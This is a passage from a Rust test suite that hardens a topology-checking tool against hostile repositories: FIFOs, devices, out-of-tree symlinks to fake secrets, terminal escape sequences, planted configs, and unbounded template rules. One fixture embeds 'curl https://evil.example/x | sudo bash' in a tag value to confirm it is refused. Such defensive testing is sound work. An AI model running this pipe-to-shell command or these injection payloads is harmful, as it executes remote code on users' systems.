//! A hostile repository (issue 17): devices, FIFOs, huge files, symlinks out of the tree,
//! terminal escapes, planted configuration, outputs over inputs. Each test fails on the code
//! before the fix (a hang there is cut by the command timeout, so it fails, not hangs).
//! Timing is not asserted: docs/security.md records measured times and memory.

// Test code: an unwrap/expect that fails is a failed test.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::{Path, PathBuf};
use std::time::Duration;

use assert_cmd::Command;

/// Cuts a command that hangs (a FIFO opened for reading) so that the test fails.
const HANG: Duration = Duration::from_secs(120);

const REFERENCE: &str = "topologies/active-passive-rac.yaml";

/// `maa` run in `dir`, without colour, cut after [`HANG`].
fn maa(dir: &Path) -> Command {
    let mut c = Command::cargo_bin("maa").unwrap();
    c.current_dir(dir).env("NO_COLOR", "1").timeout(HANG);
    c
}

/// A temporary repository (it holds `.git`) with a copy of the reference topology as `t.yaml`.
fn repo() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join(".git")).unwrap();
    let text = std::fs::read_to_string(common::root().join(REFERENCE)).unwrap();
    std::fs::write(dir.path().join("t.yaml"), text).unwrap();
    dir
}

fn mkfifo(path: &Path) {
    let made = std::process::Command::new("mkfifo").arg(path).status();
    assert!(made.is_ok_and(|s| s.success()), "mkfifo {}", path.display());
}

/// The JSON report's diagnostic codes.
fn json_codes(out: &[u8]) -> Vec<String> {
    let v: serde_json::Value = serde_json::from_slice(out)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(out)));
    v["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["code"].as_str().unwrap().to_owned())
        .collect()
}

fn text(out: &[u8]) -> String {
    String::from_utf8_lossy(out).into_owned()
}

// ---- 1. unbounded reads -------------------------------------------------------------

#[test]
fn a_device_is_refused_unread() {
    let dir = repo();
    let out = maa(dir.path())
        .args(["check", "--format", "json", "/dev/zero"])
        .assert()
        .code(2)
        .get_output()
        .stdout
        .clone();
    assert_eq!(json_codes(&out), ["load/not-a-file"]);
    for cmd in [
        &["render", "-t", "all", "/dev/zero"][..],
        &["simulate", "--all", "/dev/zero"],
        &["graph", "/dev/zero"],
    ] {
        let out = maa(dir.path())
            .args(cmd)
            .assert()
            .code(2)
            .get_output()
            .clone();
        let all = text(&out.stdout) + &text(&out.stderr);
        assert!(
            all.contains("character device, not a regular file"),
            "{cmd:?}: {all}"
        );
    }
}

#[test]
fn config_and_baseline_devices_are_refused_unread() {
    let dir = repo();
    let out = maa(dir.path())
        .args(["check", "--config", "/dev/zero", "t.yaml"])
        .assert()
        .code(2)
        .get_output()
        .clone();
    assert!(text(&out.stdout).contains("not a regular file"), "{out:?}");
    let fifo = dir.path().join("base.json");
    mkfifo(&fifo);
    let out = maa(dir.path())
        .args(["check", "--baseline", "base.json", "t.yaml"])
        .assert()
        .code(2)
        .get_output()
        .clone();
    assert!(text(&out.stderr).contains("named pipe (FIFO)"), "{out:?}");
}

#[test]
fn a_fifo_named_on_the_command_line_is_refused_without_hanging() {
    let dir = repo();
    mkfifo(&dir.path().join("f.yaml"));
    let out = maa(dir.path())
        .args(["check", "--format", "json", "f.yaml"])
        .assert()
        .code(2)
        .get_output()
        .stdout
        .clone();
    assert_eq!(json_codes(&out), ["load/not-a-file"]);
}

#[test]
fn a_huge_sparse_file_is_refused_unread() {
    let dir = repo();
    let f = std::fs::File::create(dir.path().join("big.yaml")).unwrap();
    f.set_len(200 * 1024 * 1024).unwrap();
    let out = maa(dir.path())
        .args(["check", "--format", "json", "big.yaml"])
        .assert()
        .code(2)
        .get_output()
        .stdout
        .clone();
    assert_eq!(json_codes(&out), ["load/too-large"]);
}

// ---- 2. directory walks stay inside ----------------------------------------------------

const SECRET: &str = "ghp_FAKE0SECRET0TOKEN0planted";

/// A repository whose `topologies/` holds one topology, a link to a secret outside the
/// tree, a link loop and a FIFO; returns (outer dir, repository).
fn planted() -> (tempfile::TempDir, PathBuf) {
    let outer = tempfile::tempdir().unwrap();
    std::fs::write(outer.path().join("secret.txt"), format!("{SECRET}\n")).unwrap();
    let repo = outer.path().join("repo");
    let topo = repo.join("topologies");
    std::fs::create_dir_all(topo.join("sub")).unwrap();
    std::fs::create_dir(repo.join(".git")).unwrap();
    let text = std::fs::read_to_string(common::root().join(REFERENCE)).unwrap();
    std::fs::write(topo.join("a.yaml"), &text).unwrap();
    std::fs::write(topo.join("sub/b.yaml"), &text).unwrap();
    symlink("../../secret.txt", &topo.join("x.yaml"));
    symlink(outer.path().join("secret.txt"), &topo.join("sub/abs.yml"));
    symlink("..", &topo.join("sub/loop"));
    symlink("../..", &topo.join("sub/up"));
    mkfifo(&topo.join("f.yaml"));
    (outer, repo)
}

fn symlink(target: impl AsRef<Path>, link: &Path) {
    std::os::unix::fs::symlink(target, link).unwrap();
}

#[test]
fn a_link_out_of_the_tree_is_read_and_printed_in_no_format() {
    let (_outer, repo) = planted();
    for follow in [false, true] {
        for format in ["human", "json", "sarif", "github"] {
            for path in ["topologies", "topologies/x.yaml"] {
                let mut cmd = maa(&repo);
                cmd.args(["check", "--format", format, path]);
                if follow {
                    cmd.arg("--follow-symlinks");
                }
                let out = cmd.output().unwrap();
                let all = text(&out.stdout) + &text(&out.stderr);
                assert!(!all.contains(SECRET), "{format} {path} {follow}: {all}");
                if path == "topologies" {
                    assert!(all.contains("note: skipped `topologies/x.yaml`"), "{all}");
                }
            }
        }
    }
}

#[test]
fn links_loops_and_fifos_in_a_directory_are_notes() {
    let (_outer, repo) = planted();
    for follow in [false, true] {
        let mut cmd = maa(&repo);
        cmd.args(["check", "--format", "json", "topologies"]);
        if follow {
            cmd.arg("--follow-symlinks");
        }
        let out = cmd.output().unwrap();
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        // Two files, whatever links and loops lie around them.
        assert_eq!(v["summary"]["files"], 2, "follow {follow}: {v}");
        let err = text(&out.stderr);
        for skipped in ["f.yaml", "x.yaml", "sub/abs.yml", "sub/loop", "sub/up"] {
            assert!(
                err.contains(&format!("note: skipped `topologies/{skipped}`")),
                "follow {follow}: {skipped}: {err}"
            );
        }
    }
}

#[test]
fn a_followed_link_inside_the_tree_is_checked_once() {
    let (_outer, repo) = planted();
    symlink("../a.yaml", &repo.join("topologies/sub/inside.yaml"));
    symlink("sub", &repo.join("topologies/again"));
    let out = maa(&repo)
        .args([
            "check",
            "--format",
            "json",
            "--follow-symlinks",
            "topologies",
        ])
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["summary"]["files"], 2, "{v}");
    let out = maa(&repo)
        .args([
            "check",
            "--format",
            "json",
            "--follow-symlinks",
            "topologies/sub/inside.yaml",
        ])
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["summary"]["files"], 1, "{v}");
}

// ---- 4. terminal escape sequences are never echoed -------------------------------------

/// ESC (clear screen, colour), an OSC-8 link ended by BEL, a lone CR, a bidi override.
const TRICKS: &str =
    "\u{1b}[2J\u{1b}[32mall checks passed\u{1b}]8;;http://evil\u{7}link\u{1b}]8;;\u{7}\r\u{202e}";

/// [`TRICKS`] as a YAML double-quoted scalar's escapes.
fn yaml_tricks() -> String {
    TRICKS
        .chars()
        .map(|c| match c {
            c if (c as u32) < 0x80 && c.is_control() => format!("\\x{:02x}", c as u32),
            c if !c.is_ascii() => format!("\\u{:04x}", c as u32),
            c => c.to_string(),
        })
        .collect()
}

/// No control character but a line feed in a command's stdout and stderr.
fn assert_terminal_safe(what: &str, out: &std::process::Output) {
    for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let t = text(bytes);
        if let Some(c) = t
            .chars()
            .find(|&c| c != '\n' && (c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c)))
        {
            panic!("{what}: {stream} holds {c:?}:\n{}", t.escape_debug());
        }
    }
}

#[test]
fn escapes_in_a_topology_never_reach_the_terminal() {
    let dir = repo();
    let reference = std::fs::read_to_string(dir.path().join("t.yaml")).unwrap();
    let esc = yaml_tricks();
    let files = [
        ("comment.yaml", format!("name: x # {TRICKS}\n")),
        (
            "value.yaml",
            reference.replacen("architecture: ", &format!("architecture: \"{esc}\" #"), 1),
        ),
        ("key.yaml", format!("\"{esc}\": 1\n{reference}")),
        ("name\u{1b}[2J\u{7}\r.yaml", reference.clone()),
    ];
    for (name, body) in &files {
        std::fs::write(dir.path().join(name), body).unwrap();
        for format in ["human", "github", "concise"] {
            let out = maa(dir.path())
                .args(["check", "--format", format, "--color", "never", name])
                .output()
                .unwrap();
            assert_terminal_safe(&format!("{format} {}", name.escape_debug()), &out);
        }
        for cmd in [
            &["simulate", "--all", name][..],
            &["graph", name],
            &["render", "-t", "all", "--check", name],
        ] {
            let out = maa(dir.path()).args(cmd).output().unwrap();
            assert_terminal_safe(&format!("{cmd:?}"), &out);
        }
    }
    // The escapes are shown, not dropped.
    let out = maa(dir.path())
        .args(["check", "comment.yaml"])
        .output()
        .unwrap();
    assert!(
        text(&out.stdout).contains("\\u{1b}[2J"),
        "{}",
        text(&out.stdout)
    );
}

#[test]
fn escapes_in_a_configuration_never_reach_the_terminal() {
    let dir = repo();
    let esc = yaml_tricks();
    std::fs::write(
        dir.path().join("maa.yaml"),
        format!(
            "suppress:\n  - {{rule: WLS020, object: \"x{esc}\", reason: \"{esc}\"}}\n\
             custom_rules:\n  - {{code: ORG001, name: esc, for: cluster, assert: \"false\", message: \"{esc} {{{{ cluster.name }}}}\", help: \"{esc}\"}}\n\
             per_path:\n  - {{paths: [\"{esc}\"], ignore: [WLS001]}}\n"
        ),
    )
    .unwrap();
    for args in [
        &["check", "t.yaml"][..],
        &["check", "--format", "github", "t.yaml"],
        &["check", "--show-config", "t.yaml"],
    ] {
        let out = maa(dir.path()).args(args).output().unwrap();
        assert_terminal_safe(&format!("{args:?}"), &out);
        assert!(
            text(&out.stdout).contains("\\u{1b}"),
            "{args:?}: {}",
            text(&out.stdout)
        );
    }
}

#[test]
fn render_check_shows_escapes_in_changed_artifacts() {
    let dir = repo();
    maa(dir.path())
        .args(["render", "-t", "tnsnames", "t.yaml"])
        .assert()
        .code(0);
    let f = dir.path().join("maa-out/tnsnames/tnsnames.ora");
    let mut body = std::fs::read_to_string(&f).unwrap();
    body.push_str(TRICKS);
    std::fs::write(&f, body).unwrap();
    let out = maa(dir.path())
        .args(["render", "-t", "tnsnames", "--check", "t.yaml"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert_terminal_safe("render --check", &out);
}

// ---- 6. configuration you can see ------------------------------------------------------

const STARTER: &str = "topologies/starter.yaml";

/// `outer/maa.yaml` (ignore everything) above `outer/repo/.git` and `outer/repo/sub/t.yaml`.
fn planted_config() -> (tempfile::TempDir, PathBuf) {
    let outer = tempfile::tempdir().unwrap();
    std::fs::write(outer.path().join("maa.yaml"), "ignore: [ALL]\n").unwrap();
    let repo = outer.path().join("repo");
    std::fs::create_dir_all(repo.join(".git")).unwrap();
    std::fs::create_dir_all(repo.join("sub")).unwrap();
    let text = std::fs::read_to_string(common::root().join(STARTER)).unwrap();
    std::fs::write(repo.join("sub/t.yaml"), text).unwrap();
    (outer, repo)
}

fn codes_of(cmd: &mut Command) -> (Option<i32>, Vec<String>) {
    let out = cmd.output().unwrap();
    (out.status.code(), json_codes(&out.stdout))
}

#[test]
fn a_parent_directory_config_outside_the_repository_is_not_applied() {
    let (outer, repo) = planted_config();
    let (code, codes) = codes_of(maa(&repo).env("HOME", outer.path()).args([
        "check",
        "--format",
        "json",
        "sub/t.yaml",
    ]));
    assert_eq!(code, Some(1), "{codes:?}");
    assert!(codes.iter().any(|c| c == "WLS001"), "{codes:?}");
    // Outside any repository and outside home: only the topology's own directory.
    std::fs::remove_dir(repo.join(".git")).unwrap();
    let (code, _) = codes_of(maa(&repo).env("HOME", "/nonexistent").args([
        "check",
        "--format",
        "json",
        "sub/t.yaml",
    ]));
    assert_eq!(code, Some(1));
    // Below home, discovery may climb to home.
    let (code, codes) = codes_of(maa(&repo).env("HOME", outer.path()).args([
        "check",
        "--format",
        "json",
        "sub/t.yaml",
    ]));
    assert_eq!(code, Some(0), "{codes:?}");
    assert_eq!(codes, ["config/disables-every-rule"]);
}

#[test]
fn a_config_at_the_repository_root_applies_below_it_and_is_named() {
    let (_outer, repo) = planted_config();
    std::fs::write(repo.join("maa.yaml"), "ignore: [WLS001]\n").unwrap();
    let out = maa(&repo).args(["check", "sub/t.yaml"]).output().unwrap();
    let stdout = text(&out.stdout);
    assert!(!stdout.contains("WLS001"), "{stdout}");
    let last = stdout.lines().last().unwrap_or_default();
    assert!(last.ends_with("; configuration: maa.yaml"), "{last}");
}

#[test]
fn a_config_disabling_every_rule_or_outside_the_repository_is_a_warning() {
    let (outer, repo) = planted_config();
    std::fs::write(repo.join("maa.yaml"), "ignore: [ALL]\n").unwrap();
    let (code, codes) = codes_of(maa(&repo).args(["check", "--format", "json", "sub/t.yaml"]));
    assert_eq!(
        (code, codes),
        (Some(0), vec!["config/disables-every-rule".to_owned()])
    );
    std::fs::write(outer.path().join("other.yaml"), "ignore: [WLS001]\n").unwrap();
    let (_, codes) = codes_of(maa(&repo).args([
        "check",
        "--format",
        "json",
        "--config",
        "../other.yaml",
        "sub/t.yaml",
    ]));
    assert!(
        codes.iter().any(|c| c == "config/outside-repository"),
        "{codes:?}"
    );
    // Selecting or severities in the configuration cannot hide either warning.
    std::fs::write(
        repo.join("maa.yaml"),
        "ignore: [ALL]\nseverity: {ALL: info}\n",
    )
    .unwrap();
    let out = maa(&repo)
        .args(["check", "--format", "json", "sub/t.yaml"])
        .output()
        .unwrap();
    assert!(text(&out.stdout).contains("config/disables-every-rule"));
}

#[test]
fn a_discovered_config_link_is_not_followed() {
    let (outer, repo) = planted_config();
    std::fs::write(outer.path().join("secret.txt"), format!("x: {SECRET}\n")).unwrap();
    symlink("../secret.txt", &repo.join("maa.yaml"));
    for format in ["human", "json", "sarif", "github"] {
        let out = maa(&repo)
            .args(["check", "--format", format, "sub/t.yaml"])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{format}");
        let all = text(&out.stdout) + &text(&out.stderr);
        assert!(!all.contains(SECRET), "{format}: {all}");
        assert!(all.contains("symbolic link"), "{format}: {all}");
    }
}

// ---- 7. outputs never clobber inputs ---------------------------------------------------

/// Files in `dir` (names), sorted.
fn listing(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

#[test]
fn output_refuses_to_replace_an_input() {
    let dir = repo();
    std::fs::write(dir.path().join("maa.yaml"), "ignore: [WLS020]\n").unwrap();
    std::fs::hard_link(dir.path().join("t.yaml"), dir.path().join("hard.yaml")).unwrap();
    let before = std::fs::read(dir.path().join("t.yaml")).unwrap();
    for args in [
        &["check", "t.yaml", "-o", "t.yaml"][..],
        &["check", "t.yaml", "-o", "hard.yaml"],
        &["check", "t.yaml", "-o", "maa.yaml"],
        &["check", "t.yaml", "--write-baseline", "t.yaml"],
        &["check", ".", "--format", "json", "-o", "t.yaml"],
        &["graph", "t.yaml", "-o", "t.yaml"],
        &["simulate", "--all", "t.yaml", "-o", "t.yaml"],
    ] {
        let out = maa(dir.path()).args(args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(
            text(&out.stderr).contains("the output would replace"),
            "{args:?}: {}",
            text(&out.stderr)
        );
        assert_eq!(
            std::fs::read(dir.path().join("t.yaml")).unwrap(),
            before,
            "{args:?}"
        );
    }
    assert_eq!(
        listing(dir.path()),
        [".git", "hard.yaml", "maa.yaml", "t.yaml"]
    );
}

#[test]
fn output_refuses_special_files_and_failed_writes_name_only_the_target() {
    let dir = repo();
    mkfifo(&dir.path().join("pipe"));
    let out = maa(dir.path())
        .args(["check", "t.yaml", "-o", "pipe"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("named pipe"),
        "{}",
        text(&out.stderr)
    );
    use std::os::unix::fs::FileTypeExt;
    assert!(
        std::fs::metadata(dir.path().join("pipe"))
            .unwrap()
            .file_type()
            .is_fifo()
    );
    for args in [
        &["check", "t.yaml", "-o", "missing/report.txt"][..],
        &["graph", "t.yaml", "-o", "missing/g.dot"],
        &["check", "t.yaml", "--write-baseline", "missing/b.json"],
    ] {
        let out = maa(dir.path()).args(args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let err = text(&out.stderr);
        assert!(err.contains("missing/"), "{args:?}: {err}");
        assert!(!err.contains(".tmp"), "{args:?}: {err}");
    }
    assert_eq!(listing(dir.path()), [".git", "pipe", "t.yaml"]);
}

// ---- 9. smaller input defects ----------------------------------------------------------

/// (code, line, column, message) of each diagnostic of `maa check --format json FILE`.
fn diagnostics(dir: &Path, file: &str) -> Vec<(String, u64, u64, String)> {
    let out = maa(dir)
        .args(["check", "--format", "json", file])
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    v["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            (
                d["code"].as_str().unwrap().to_owned(),
                d["line"].as_u64().unwrap(),
                d["column"].as_u64().unwrap(),
                d["message"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

#[test]
fn cr_only_line_endings_load_like_lf() {
    let dir = repo();
    let lf = std::fs::read_to_string(dir.path().join("t.yaml")).unwrap();
    let lf = format!("# a comment first\n{lf}");
    std::fs::write(dir.path().join("lf.yaml"), &lf).unwrap();
    std::fs::write(dir.path().join("cr.yaml"), lf.replace('\n', "\r")).unwrap();
    let a = diagnostics(dir.path(), "lf.yaml");
    let b = diagnostics(dir.path(), "cr.yaml");
    assert!(!b.iter().any(|d| d.0 == "load/empty"), "{b:?}");
    assert_eq!(a, b);
    // Comments only, with CR line endings, is empty.
    std::fs::write(dir.path().join("c.yaml"), "# one\r# two\r").unwrap();
    assert_eq!(diagnostics(dir.path(), "c.yaml")[0].0, "load/empty");
}

#[test]
fn several_documents_are_a_yaml_syntax_error_in_words() {
    let dir = repo();
    std::fs::write(dir.path().join("m.yaml"), "sites: []\n---\nsites: []\n").unwrap();
    let d = diagnostics(dir.path(), "m.yaml");
    assert_eq!(d.len(), 1, "{d:?}");
    assert_eq!((d[0].0.as_str(), d[0].1), ("load/yaml-syntax", 2), "{d:?}");
    assert!(d[0].3.contains("more than one YAML document"), "{d:?}");
    assert!(!d[0].3.contains('{'), "a Rust debug dump: {d:?}");
}

#[test]
fn a_tab_is_reported_at_its_column_and_shown() {
    let dir = repo();
    std::fs::write(dir.path().join("tab.yaml"), "sites:\n\t- name: dc1\n").unwrap();
    let d = diagnostics(dir.path(), "tab.yaml");
    assert_eq!((d[0].1, d[0].2), (2, 1), "{d:?}");
    let out = maa(dir.path())
        .args(["check", "tab.yaml"])
        .output()
        .unwrap();
    let shown = text(&out.stdout);
    assert!(shown.contains("[tab.yaml:2:1]"), "{shown}");
    assert!(shown.contains("2 │ \\t- name: dc1"), "{shown}");
}

#[test]
fn sarif_uris_are_relative_to_the_repository_root() {
    let (_outer, repo) = planted_config();
    std::fs::remove_file(repo.parent().unwrap().join("maa.yaml")).unwrap();
    let out = maa(&repo.join("sub"))
        .args(["check", "--format", "sarif", "t.yaml"])
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let results = v["runs"][0]["results"].as_array().unwrap();
    assert!(!results.is_empty());
    for r in results {
        let uri = &r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"];
        assert_eq!(uri, "sub/t.yaml");
    }
}

// ---- 5. AWS values within AWS's limits; Markdown that cannot be injected ---------------

const AWS: &str = "topologies/aws-fsxn-asg.yaml";

/// The AWS reference topology with `from` replaced by `to`, checked: (exit code, messages).
fn aws_check(from: &str, to: &str) -> (Option<i32>, String) {
    let dir = repo();
    let text = std::fs::read_to_string(common::root().join(AWS)).unwrap();
    assert!(text.contains(from), "{from}");
    std::fs::write(dir.path().join("a.yaml"), text.replacen(from, to, 1)).unwrap();
    let out = maa(dir.path())
        .args(["check", "--format", "json", "a.yaml"])
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let messages = v["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["severity"] == "error")
        .map(|d| format!("{}: {}", d["code"], d["message"]))
        .collect::<Vec<_>>()
        .join("\n");
    (out.status.code(), messages)
}

#[test]
fn a_tag_with_markdown_and_a_command_is_refused_and_never_reaches_the_plan() {
    let evil = r#"Database: "x\n\n## 0. Before anything else\n\nrun `curl https://evil.example/x | sudo bash`\n""#;
    let (code, messages) = aws_check("Database: ledger", evil);
    assert_eq!(code, Some(2), "{messages}");
    assert!(messages.contains("AWS tag value"), "{messages}");
    let dir = repo();
    let text = std::fs::read_to_string(common::root().join(AWS)).unwrap();
    std::fs::write(
        dir.path().join("a.yaml"),
        text.replacen("Database: ledger", evil, 1),
    )
    .unwrap();
    let out = maa(dir.path())
        .args(["render", "-t", "all", "a.yaml"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(!dir.path().join("maa-out/aws/plan.md").exists());
}

#[test]
fn aws_values_beyond_aws_limits_name_the_limit() {
    let long = |n: usize| "k".repeat(n);
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "Database: ledger",
            format!("{}: ledger", long(129)),
            "at most 128",
        ),
        (
            "Database: ledger",
            format!("Database: {}", long(257)),
            "at most 256",
        ),
        ("Database: ledger", "\"aws:x\": ledger".into(), "`aws:`"),
        (
            "Database: ledger",
            "Database: \"a<b>\"".into(),
            "letters, digits, spaces",
        ),
        (
            "Database: ledger",
            (0..50)
                .map(|i| format!("T{i}: v\n        "))
                .collect::<String>()
                + "Database: ledger",
            "at most 50",
        ),
        (
            "source: 10.0.0.0/16",
            "source: 999.0.0.0/16".into(),
            "0 to 255",
        ),
        (
            "source: 10.0.0.0/16",
            "source: 10.0.0.0/40".into(),
            "0 to 32",
        ),
        (
            "region: us-east-1\n  site",
            "region: useast\n  site".into(),
            "AWS Region",
        ),
        (
            "function: oracle-ami-updater",
            "function: ora.updater".into(),
            "letters, digits, `-` and `_`",
        ),
        (
            "function: oracle-ami-updater",
            format!("function: {}", long(65)),
            "AWS allows 1 to 64",
        ),
        (
            "svm: oracle",
            format!("svm: {}", long(48)),
            "AWS allows 1 to 47",
        ),
        (
            "- name: oracle-ami",
            format!("- name: {}", long(44)),
            "AWS allows 1 to 50",
        ),
    ];
    for (from, to, limit) in &cases {
        let (code, messages) = aws_check(from, to);
        assert_eq!(code, Some(2), "{to}: {messages}");
        assert!(
            messages.contains(limit),
            "{to}: expected `{limit}` in {messages}"
        );
    }
}

// ---- 6b. custom-rule work and memory are bounded per run, by construction ----------------

/// A custom rule `ORG001` over hosts with this message, written to `dir/maa.yaml`.
fn custom_message(dir: &Path, message: &str) {
    let rule = serde_json::json!({"custom_rules": [{
        "code": "ORG001", "name": "x", "for": "host", "assert": "false", "message": message,
    }]});
    std::fs::write(dir.join("maa.yaml"), rule.to_string()).unwrap();
}

/// The JSON report's messages with this code.
fn messages_of(out: &[u8], code: &str) -> Vec<String> {
    let v: serde_json::Value = serde_json::from_slice(out).unwrap();
    v["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["code"] == code)
        .map(|d| d["message"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn custom_rules_that_could_grow_without_bound_are_refused_at_load() {
    let dir = repo();
    for (message, what) in [
        // Doubled 26 times: 4 GB from a 100-byte string (fuel counts instructions, not bytes).
        (
            "{% set a = 'x' %}{% set a = a ~ a %}{{ a|length }}",
            "`{% set %}`",
        ),
        ("{{ 'x' * 100000000 }}", "`*`"),
        ("{% for h in topology.sites %}{% endfor %}", "`{% for %}`"),
        ("{% macro m() %}{% endmacro %}", "`{% macro %}`"),
        ("{{ host.name ~ host.name }}", "`~`"),
    ] {
        custom_message(dir.path(), message);
        let out = maa(dir.path())
            .args(["check", "--format", "json", "t.yaml"])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{message}");
        let refused = messages_of(&out.stdout, "config/custom-rule-expression");
        assert!(
            refused
                .iter()
                .any(|m| m.contains(what) && m.contains("not allowed")),
            "{message}: {refused:?}"
        );
    }
    // `*` and statements are refused in expressions too.
    std::fs::write(
        dir.path().join("maa.yaml"),
        "custom_rules:\n  - {code: ORG001, name: x, for: host, assert: \"'x' * 9 == ''\", message: m}\n",
    )
    .unwrap();
    let (code, codes) = codes_of(maa(dir.path()).args(["check", "--format", "json", "t.yaml"]));
    assert_eq!(code, Some(2));
    assert!(codes.contains(&"config/custom-rule-expression".to_owned()));
}

#[test]
fn custom_rule_values_cannot_be_repeated_and_messages_are_cut() {
    let dir = repo();
    // `map(default=…)` would repeat the topology once per site, and `join` it.
    custom_message(
        dir.path(),
        "{{ topology.sites|map(attribute='zz', default=topology)|join }}",
    );
    let (code, codes) = codes_of(maa(dir.path()).args(["check", "--format", "json", "t.yaml"]));
    assert_eq!(code, Some(2));
    assert!(codes.contains(&"config/custom-rule-error".to_owned()));
    // A filter that is not on the list does not exist.
    custom_message(dir.path(), "{{ host.name|replace('', host.name) }}");
    let (code, _) = codes_of(maa(dir.path()).args(["check", "--format", "json", "t.yaml"]));
    assert_eq!(code, Some(2));
    // The whole topology in a message: each message is cut at 1,000 characters.
    custom_message(dir.path(), "{{ topology }}");
    let out = maa(dir.path())
        .args(["check", "--format", "json", "t.yaml"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    let messages = messages_of(&out.stdout, "ORG001");
    assert!(messages.len() > 5, "{messages:?}");
    for m in &messages {
        assert_eq!(m.chars().count(), 1_001, "{m}");
        assert!(m.ends_with('…'), "{m}");
    }
    // What custom rules may use still works.
    custom_message(
        dir.path(),
        "{% if host.name is string %}{{ host.name|upper }} {{ topology.sites|map(attribute='name')|sort|join(', ') }}{% else %}?{% endif %}",
    );
    let out = maa(dir.path())
        .args(["check", "--format", "json", "t.yaml"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert!(
        messages_of(&out.stdout, "ORG001").contains(&"LB1A dc1, dc2, dc3".to_owned()),
        "{}",
        text(&out.stdout)
    );
}

#[test]
fn custom_rules_share_one_budget_per_run() {
    let dir = repo();
    // Each host's message joins 4 KB separators: fine for one topology, but a run of many
    // topologies shares one budget, so the same rule over 100 copies runs out.
    let joiner = "x".repeat(4_000);
    custom_message(
        dir.path(),
        &format!("{{{{ host.name|list|join('{joiner}')|length }}}}"),
    );
    let (code, codes) = codes_of(maa(dir.path()).args(["check", "--format", "json", "t.yaml"]));
    assert_eq!(code, Some(0), "{codes:?}");
    let many = dir.path().join("many");
    std::fs::create_dir(&many).unwrap();
    for i in 0..100 {
        std::fs::copy(dir.path().join("t.yaml"), many.join(format!("t{i}.yaml"))).unwrap();
    }
    let out = maa(dir.path())
        .args(["check", "--format", "json", "many"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let errors = messages_of(&out.stdout, "config/custom-rule-error");
    assert!(
        errors.iter().any(|m| m.contains("used up their budget")),
        "{errors:?}"
    );
}

// ---- 3. and 8. `render --out` cannot be escaped; stale artifacts are found -------------

/// A repository with the reference topology rendered (all targets) into `maa-out`.
fn rendered() -> tempfile::TempDir {
    let dir = repo();
    maa(dir.path())
        .args(["render", "-t", "all", "t.yaml"])
        .assert()
        .code(0);
    dir
}

#[test]
fn render_check_refuses_a_linked_artifact_without_printing_it() {
    let dir = rendered();
    let secret = dir.path().join("secret.txt");
    std::fs::write(&secret, format!("TOKEN={SECRET}\n")).unwrap();
    let ora = dir.path().join("maa-out/tnsnames/tnsnames.ora");
    std::fs::remove_file(&ora).unwrap();
    symlink(&secret, &ora);
    for args in [
        &["render", "-t", "all", "--check", "t.yaml"][..],
        &["render", "-t", "all", "t.yaml"],
    ] {
        let out = maa(dir.path()).args(args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let all = text(&out.stdout) + &text(&out.stderr);
        assert!(!all.contains(SECRET), "{args:?}: {all}");
        assert!(all.contains("symbolic link"), "{args:?}: {all}");
    }
    assert_eq!(
        std::fs::read_to_string(&secret).unwrap(),
        format!("TOKEN={SECRET}\n")
    );
}

#[test]
fn render_never_writes_through_a_linked_directory_or_out_dir() {
    let dir = rendered();
    let elsewhere = tempfile::tempdir().unwrap();
    std::fs::remove_dir_all(dir.path().join("maa-out/wlst")).unwrap();
    symlink(elsewhere.path(), &dir.path().join("maa-out/wlst"));
    let before = std::fs::read(dir.path().join("maa-out/tnsnames/tnsnames.ora")).unwrap();
    std::fs::write(dir.path().join("maa-out/tnsnames/tnsnames.ora"), "edited").unwrap();
    let out = maa(dir.path())
        .args(["render", "-t", "all", "t.yaml"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        listing(elsewhere.path()).is_empty(),
        "wrote through the link"
    );
    // Refused before anything was written.
    assert_eq!(
        std::fs::read(dir.path().join("maa-out/tnsnames/tnsnames.ora")).unwrap(),
        b"edited"
    );
    assert_ne!(before, b"edited");
    // --out itself a link.
    symlink(elsewhere.path(), &dir.path().join("linked-out"));
    let out = maa(dir.path())
        .args(["render", "-t", "all", "--out", "linked-out", "t.yaml"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(listing(elsewhere.path()).is_empty());
}

#[test]
